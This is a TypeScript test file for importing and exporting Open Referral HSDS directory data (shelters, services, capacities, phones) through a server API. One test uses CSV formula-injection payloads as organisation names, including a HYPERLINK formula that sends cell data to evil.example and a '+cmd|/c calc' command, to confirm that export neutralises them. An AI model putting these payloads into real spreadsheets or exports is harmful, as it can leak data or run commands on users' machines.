// HSDS import and export against a real server and database: the real Open Referral example
// imports as it is; a realistic file with broken rows is refused whole with a report naming
// table, row, field and problem; export gives back the same tabular form, capacity included.
import { fileURLToPath } from 'node:url';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readZip, writeZip } from '../../server/src/modules/directory/hsds/zip.js';
import { parseCsv } from '../../server/src/modules/directory/hsds/csv.js';
import { directorySeeder, seedId } from '../../server/src/modules/directory/directory.seed.js';
import { TEST_APP_SECRET } from '../helpers/runtime.js';
import { signedIn, type Client } from '../helpers/http.js';
import { startTestServer, type TestServer } from '../helpers/runtime.js';

// Open Referral's own HSDS example tables (CC BY-SA 4.0; see the SOURCE.md beside them), as they are.
const EXAMPLE = fileURLToPath(new URL('../fixtures/hsds-example', import.meta.url));
/** Appends a row, naming its fields, in the file's own column order. */
function addRow(csv: string, values: Record<string, string>) {
  const header = parseCsv(csv).rows[0]!.cells;
  return `${csv.trimEnd()}\n${header.map((h) => values[h] ?? '').join(',')}\n`;
}
const exampleFiles = () =>
  Object.fromEntries(
    readdirSync(EXAMPLE)
      .filter((f) => /\.(csv|json)$/.test(f))
      .map((f) => [f, readFileSync(join(EXAMPLE, f), 'utf8')]),
  );

let server: TestServer;
let coordinator: Client;

beforeAll(async () => {
  server = await startTestServer();
  coordinator = (await signedIn(server.url, server.services, ['coordinator'])).client;
});
afterAll(() => server?.close());

/** Text as a Russian Windows spreadsheet saves it (Windows-1251): ASCII as is, А–я, Ё and ё. */
function windows1251(text: string): Buffer {
  return Buffer.from(
    [...text].map((ch) => {
      const c = ch.codePointAt(0)!;
      if (c < 0x80) return c;
      if (c >= 0x410 && c <= 0x44f) return c - 0x410 + 0xc0;
      if (ch === 'Ё') return 0xa8;
      if (ch === 'ё') return 0xb8;
      throw new Error(`no Windows-1251 byte for ${ch}`);
    }),
  );
}

const count = (table: 'dirService' | 'dirOrganization' | 'dirPhone' | 'dirSchedule') =>
  (server.services.infra.db.prisma[table] as { count(): Promise<number> }).count();

describe('demo directory', () => {
  it('is seeded once, marked as examples, with the 40-bed centre (15 + 25), and a second run changes nothing', async () => {
    const prisma = server.services.infra.db.prisma;
    const examples = await prisma.dirOrganization.count({ where: { isExample: true } });
    expect(examples).toBe(6);
    const beds = await prisma.dirServiceCapacity.findMany({ where: { id: { in: [seedId('capacity:ogonyok-family'), seedId('capacity:ogonyok-rehab')] } } });
    expect(beds.map((b) => b.maximum).sort()).toEqual([15, 25]);
    // A coordinator confirms a capacity; running the seeder again keeps it.
    await prisma.dirServiceCapacity.update({ where: { id: seedId('capacity:ogonyok-family') }, data: { available: 1 } });
    const before = {
      orgs: await prisma.dirOrganization.count(),
      services: await prisma.dirService.count(),
      phones: await prisma.dirPhone.count(),
      schedules: await prisma.dirSchedule.count(),
    };
    await directorySeeder.run(prisma, { appSecret: TEST_APP_SECRET });
    expect({
      orgs: await prisma.dirOrganization.count(),
      services: await prisma.dirService.count(),
      phones: await prisma.dirPhone.count(),
      schedules: await prisma.dirSchedule.count(),
    }).toEqual(before);
    expect((await prisma.dirServiceCapacity.findUnique({ where: { id: seedId('capacity:ogonyok-family') } }))!.available).toBe(1);
    const kinds = new Set((await prisma.dirService.findMany({ where: { isExample: true } })).flatMap((s) => s.urgentKinds));
    expect([...kinds].sort()).toEqual(['accommodation', 'clothing', 'food', 'legal', 'psychological']);
  });
});

describe('HSDS import', () => {
  it('refuses a file with bad rows, reports each, and imports nothing', async () => {
    const files = exampleFiles();
    const before = { services: await count('dirService'), orgs: await count('dirOrganization') };
    // A realistic regional file: the example plus rows with the mistakes people make.
    files['organizations.csv'] =
      files['organizations.csv']!.trimEnd() +
      '\r\n' +
      'not-a-uuid,Broken Org,,,,,,,,,,,\r\n' +
      '5f1b7c3e-1111-4a2b-9c3d-000000000001,,,,,,,,,,,,\r\n' +
      '5f1b7c3e-1111-4a2b-9c3d-000000000002,Good new org,,,,,,,,,,,\r\n';
    files['services.csv'] = addRow(files['services.csv']!, {
      id: '5f1b7c3e-2222-4a2b-9c3d-000000000001',
      organization_id: '5f1b7c3e-1111-4a2b-9c3d-000000000002',
      name: 'Shelter',
      status: 'open',
      minimum_age: 'twelve',
      maximum_age: '100',
    });
    files['phones.csv'] = addRow(files['phones.csv']!, { id: '5f1b7c3e-3333-4a2b-9c3d-000000000001', number: 'call me', type: 'voice' });
    files['schedules.csv'] = addRow(files['schedules.csv']!, { id: '5f1b7c3e-4444-4a2b-9c3d-000000000001', opens_at: '25:00', closes_at: '18:00' });
    files['service_capacity.csv'] = addRow(files['service_capacity.csv']!, {
      id: '5f1b7c3e-5555-4a2b-9c3d-000000000001',
      service_id: '5f1b7c3e-2222-4a2b-9c3d-000000000001',
      unit_id: '8896b788-7b3e-11ef-8db9-7f3d040352b3',
      available: '-3',
      maximum: '10',
      updated: 'yesterday',
    });

    const res = await coordinator.post('/api/directory/import', { files });
    expect(res.status).toBe(422);
    expect(res.body.imported).toBe(false);
    expect(res.body.code).toBe('HSDS_INVALID');
    expect(res.body.message).toMatch(/^nothing was imported; \d+ problems: organizations\.csv row 3, id: "not-a-uuid" is not a UUID/);
    const errors = res.body.errors.map((e: any) => `${e.table}:${e.row}:${e.field}:${e.problem}`);
    expect(errors).toEqual(
      expect.arrayContaining([
        'organization:3:id:"not-a-uuid" is not a UUID',
        'organization:4:name:is required',
        'service:3:status:"open" is not one of: active, inactive, defunct, temporarily closed',
        'service:3:minimum_age:"twelve" is not a whole number',
        'phone:3:number:is not a phone number',
        'schedule:3:opens_at:"25:00" is not a time (HH:MM or HH:MM:SS)',
        'service_capacity:3:available:-3 is below 0',
        'service_capacity:3:updated:"yesterday" is not a date and time (ISO 8601)',
      ]),
    );
    for (const e of res.body.errors) expect(e.file).toMatch(/\.csv$/);
    // Nothing was written: not even the good rows of the same file.
    expect(await count('dirService')).toBe(before.services);
    expect(await count('dirOrganization')).toBe(before.orgs);
  });

  it('reports a row with the wrong number of fields and a broken quote', async () => {
    const files = exampleFiles();
    files['organizations.csv'] += 'd9d5e0f5-d3ce-4f73-9a2f-4dd0ecc6c611,Too few fields\n';
    files['locations.csv'] += '3a19ff88-4620-4d17-9830-ac1d859eb5d6,physical,"never closed\n';
    const res = await coordinator.post('/api/directory/import', { files });
    expect(res.status).toBe(422);
    expect(res.body.errors).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ table: 'organization', row: 3, problem: 'row has 2 fields; the header has 13' }),
        expect.objectContaining({ table: 'location', row: 3, problem: 'a quoted field is not closed' }),
      ]),
    );
  });

  it('imports the real Open Referral example as it is, with warnings for its dangling links', async () => {
    const res = await coordinator.post('/api/directory/import', { files: exampleFiles() });
    expect(res.status).toBe(200);
    expect(res.body.imported).toBe(true);
    expect(res.body.errors).toEqual([]);
    expect(res.body.counts).toMatchObject({
      organization: 1,
      service: 1,
      location: 1,
      address: 1,
      phone: 1,
      schedule: 1,
      service_area: 1,
      language: 1,
      unit: 1,
      service_at_location: 1,
    });
    const warnings = res.body.warnings.map((w: any) => `${w.table}:${w.field}`);
    expect(warnings).toEqual(expect.arrayContaining(['datapackage:null', 'location:organization_id', 'location:latitude', 'service_capacity:service_id']));
    expect(res.body.ignored.map((i: any) => i.file)).toEqual(expect.arrayContaining(['contacts.csv', 'funding.csv', 'taxonomy_terms.csv']));
    const service = await server.services.infra.db.prisma.dirService.findUnique({ where: { id: 'ac148810-d857-441c-9679-408f346de14b' } });
    expect(service).toMatchObject({ name: 'Community Counselling', status: 'active', minimumAge: 12, maximumAge: 100 });
    const phone = await server.services.infra.db.prisma.dirPhone.findUnique({ where: { id: '1554f2e2-a373-45db-a3fa-9fc48a61c15e' } });
    expect(phone!.numberMasked).toMatch(/4567$/);
    expect(JSON.stringify(phone)).not.toContain('234567');
    // Importing again changes nothing (upsert by HSDS id).
    const again = await coordinator.post('/api/directory/import', { files: exampleFiles() });
    expect(again.status).toBe(200);
    expect(await count('dirService')).toBe(await server.services.infra.db.prisma.dirService.count());
  });

  it('exports the tabular form (zip) with capacity as service_capacity and unit rows, and it imports back', async () => {
    const svc = (await coordinator.get('/api/directory')).body.flatMap((o: any) => o.services).find((s: any) => s.capacities.length);
    expect(svc).toBeTruthy();
    const res = await fetch(`${server.url}/api/directory/export?format=zip`, { headers: { cookie: coordinator.cookieHeader } });
    expect(res.status).toBe(200);
    const zip = readZip(Buffer.from(await res.arrayBuffer()));
    expect([...zip.keys()]).toEqual(
      expect.arrayContaining(['datapackage.json', 'organizations.csv', 'services.csv', 'service_capacity.csv', 'units.csv', 'phones.csv', 'schedules.csv']),
    );
    const dp = JSON.parse(zip.get('datapackage.json')!.toString());
    expect(dp.resources.find((r: any) => r.name === 'service_capacity').schema.fields.map((f: any) => f.name)).toEqual([
      'id',
      'service_id',
      'unit_id',
      'available',
      'maximum',
      'description',
      'updated',
    ]);
    const caps = parseCsv(zip.get('service_capacity.csv')!.toString()).rows;
    expect(caps[0]!.cells).toEqual(['id', 'service_id', 'unit_id', 'available', 'maximum', 'description', 'updated']);
    expect(caps.some((r) => r.cells[1] === svc.id && r.cells[3] === String(svc.capacities[0].available))).toBe(true);
    const phones = parseCsv(zip.get('phones.csv')!.toString()).rows;
    expect(phones.some((r) => r.cells.includes('+441234234567'))).toBe(true);

    // The zip goes back in unchanged.
    const back = await fetch(`${server.url}/api/directory/import`, {
      method: 'POST',
      body: Buffer.from(await (await fetch(`${server.url}/api/directory/export?format=zip`, { headers: { cookie: coordinator.cookieHeader } })).arrayBuffer()),
      headers: { cookie: coordinator.cookieHeader, 'x-csrf-token': coordinator.csrf, 'content-type': 'application/zip' },
    });
    const report = await back.json();
    expect(back.status).toBe(200);
    expect(report.errors).toEqual([]);
    expect(report.warnings).toEqual([]);
  });

  it('exports names that a spreadsheet would run as formulas as text, and imports them back unchanged', async () => {
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|/c calc', '@SUM(A1)', '-2+3'];
    for (const name of names) expect((await coordinator.post('/api/directory/organizations', { name })).status).toBe(200);
    const res = await fetch(`${server.url}/api/directory/export?format=zip`, { headers: { cookie: coordinator.cookieHeader } });
    const zip = readZip(Buffer.from(await res.arrayBuffer()));
    const cells = parseCsv(zip.get('organizations.csv')!.toString()).rows.flatMap((r) => r.cells);
    for (const name of names) {
      expect(cells).toContain(`'${name}`);
      expect(cells).not.toContain(name);
    }
    // A phone number is a value, not a formula: left as it is.
    expect(parseCsv(zip.get('phones.csv')!.toString()).rows.flatMap((r) => r.cells)).toContain('+441234234567');
    const back = await fetch(`${server.url}/api/directory/import`, {
      method: 'POST',
      body: new Uint8Array(writeZip([...zip].map(([name, data]) => ({ name, data })))),
      headers: { cookie: coordinator.cookieHeader, 'x-csrf-token': coordinator.csrf, 'content-type': 'application/zip' },
    });
    expect(back.status).toBe(200);
    const orgs = (await coordinator.get('/api/directory')).body.map((o: { name: string }) => o.name);
    for (const name of names) expect(orgs.filter((n: string) => n === name)).toHaveLength(1);
  });

  it('reads a Windows-1251 table (a Russian spreadsheet) as Cyrillic, with a warning, not as garbage', async () => {
    const res = await fetch(`${server.url}/api/directory/export?format=zip`, { headers: { cookie: coordinator.cookieHeader } });
    const zip = readZip(Buffer.from(await res.arrayBuffer()));
    const id = '7d1c7b2a-3f5e-4c59-9a4b-0e1f2a3b4c5d';
    const csv = addRow(zip.get('organizations.csv')!.toString(), { id, name: 'Центр «Семья» на Ёлочной', description: 'Приют для матерей с детьми' });
    // Only ASCII and Cyrillic can be written in Windows-1251: other rows keep their text by the ASCII-only check below.
    const rows = csv.split('\n');
    const cyrillicOnly = rows.filter((l, i) => i === 0 || l.startsWith(id) || /^[\x00-\x7f]*$/.test(l)).join('\n');
    zip.set('organizations.csv', windows1251(cyrillicOnly.replace('«', '"').replace('»', '"')));
    const back = await fetch(`${server.url}/api/directory/import`, {
      method: 'POST',
      body: new Uint8Array(writeZip([...zip].map(([name, data]) => ({ name, data })))),
      headers: { cookie: coordinator.cookieHeader, 'x-csrf-token': coordinator.csrf, 'content-type': 'application/zip' },
    });
    const report = await back.json();
    expect(back.status, JSON.stringify(report.errors?.slice(0, 3))).toBe(200);
    expect(report.warnings.map((w: { problem: string }) => w.problem)).toContain(
      'not UTF-8; read as Windows-1251 (Cyrillic). Check the names, or save the file as UTF-8',
    );
    const org = (await coordinator.get('/api/directory')).body.find((o: { id: string }) => o.id === id);
    expect(org?.name).toBe('Центр "Семья" на Ёлочной');
    expect(JSON.stringify(org)).not.toContain('\uFFFD');
  });

  it('exports and re-imports a JSON datapackage with the rows inline', async () => {
    const json = await coordinator.get('/api/directory/export?format=json');
    expect(json.status).toBe(200);
    expect(json.body.resources.find((r: any) => r.name === 'units').data.length).toBeGreaterThan(0);
    const back = await coordinator.post('/api/directory/import', json.body);
    expect(back.status).toBe(200);
    expect(back.body.imported).toBe(true);
  });

  it('lets a coordinator add a service with kinds, areas, 24/7 hours, a holiday and an SMS number, and confirm capacity', async () => {
    const org = await coordinator.post('/api/directory/organizations', { name: 'Test shelter' });
    expect(org.status).toBe(200);
    const svc = await coordinator.post('/api/directory/services', {
      organizationId: org.body.id,
      name: 'Night shelter',
      urgentKinds: ['accommodation'],
      areas: ['Кировский район'],
      minimumAge: 0,
      maximumAge: 18,
      schedules: [
        { days: [], opensAt: '00:00', closesAt: '24:00' },
        { date: '2026-12-31', description: 'closed' },
      ],
      smsPhones: ['+7 900 111 22 33'],
    });
    expect(svc.status).toBe(200);
    const units = (await coordinator.get('/api/directory/units')).body;
    const beds = units.find((u: any) => u.name === 'beds');
    expect((await coordinator.request('PUT', `/api/directory/services/${svc.body.id}/capacity`, { unitId: beds.id, available: 9, maximum: 5 })).status).toBe(
      400,
    );
    const cap = await coordinator.request('PUT', `/api/directory/services/${svc.body.id}/capacity`, { unitId: beds.id, available: 4, maximum: 10 });
    expect(cap.status).toBe(200);
    const listed = (await coordinator.get('/api/directory')).body.find((o: any) => o.id === org.body.id).services[0];
    expect(listed).toMatchObject({
      urgentKinds: ['accommodation'],
      areas: ['Кировский район'],
      capacities: [expect.objectContaining({ available: 4, maximum: 10, unit: 'beds' })],
    });
    expect(listed.schedules).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ byday: 'MO,TU,WE,TH,FR,SA,SU', opensAt: '00:00:00', closesAt: '24:00:00' }),
        expect.objectContaining({ validFrom: '2026-12-31', opensAt: null }),
      ]),
    );
    expect(listed.phones[0].masked).toMatch(/2233$/);
    const bad = await coordinator.post('/api/directory/services', { organizationId: org.body.id, name: '', urgentKinds: [] });
    expect(bad.status).toBe(400);
    expect(bad.body.fields.map((f: any) => f.path)).toEqual(expect.arrayContaining(['body.name', 'body.urgentKinds']));
  });

  it('lets only coordinators and admins import', async () => {
    const { client: operator } = await signedIn(server.url, server.services, ['operator']);
    expect((await operator.post('/api/directory/import', { files: exampleFiles() })).status).toBe(403);
  });
});
